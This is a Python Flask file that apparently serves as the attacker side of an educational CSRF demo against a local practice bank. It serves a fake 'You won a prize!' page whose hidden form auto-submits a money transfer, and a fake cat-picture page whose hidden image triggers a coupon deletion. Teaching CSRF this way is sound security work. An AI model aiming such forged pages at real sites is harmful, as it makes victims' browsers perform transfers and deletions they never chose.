# attacker_site.py
# ------------------------------------------------------------
# The "evil" page of the CSRF bank demo. Visiting it while logged in to the
# bank makes the browser submit a transfer to the attacker.
# Educational only.
#
# Run:
#   BANK_URL=http://127.0.0.1:5000 python attacker_site.py
# Open: http://127.0.0.1:5001/
# ------------------------------------------------------------
import logging
import os
from urllib.parse import urlencode

from flask import Flask, request
from markupsafe import escape

logger = logging.getLogger(__name__)

BANK_URL = os.environ.get("BANK_URL", "http://127.0.0.1:5000")
PORT = int(os.environ.get("ATTACKER_PORT", "5001"))

FORGED_TRANSFER = """<!doctype html>
<html><body>
<h1>You won a prize!</h1>
<form id="f" action="{action}" method="post">
  <input type="hidden" name="to" value="{to}">
  <input type="hidden" name="amount" value="{amount}">
</form>
<script>document.getElementById("f").submit();</script>
</body></html>"""

FORGED_DELETE = """<!doctype html>
<html><body>
<h1>Cute cat pictures</h1>
<img src="{src}" alt="" style="display:none">
</body></html>"""


def create_app(bank_url=BANK_URL):
    app = Flask(__name__)
    bank_url = bank_url.rstrip("/")

    @app.get("/")
    def forged_transfer():
        to = request.args.get("to", "attacker")
        amount = request.args.get("amount", "500")
        logger.info("Serving forged transfer of %s to %s", amount, to)
        return FORGED_TRANSFER.format(
            action=escape(f"{bank_url}/transfer"),
            to=escape(to),
            amount=escape(amount),
        )

    @app.get("/delete")
    def forged_delete():
        code = request.args.get("code", "ALICE50")
        return FORGED_DELETE.format(
            src=escape(f"{bank_url}/delete-coupon?" + urlencode({"code": code})),
        )

    return app


if __name__ == "__main__":
    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(levelname)s %(message)s")
    create_app().run(host="127.0.0.1", port=PORT, debug=False)
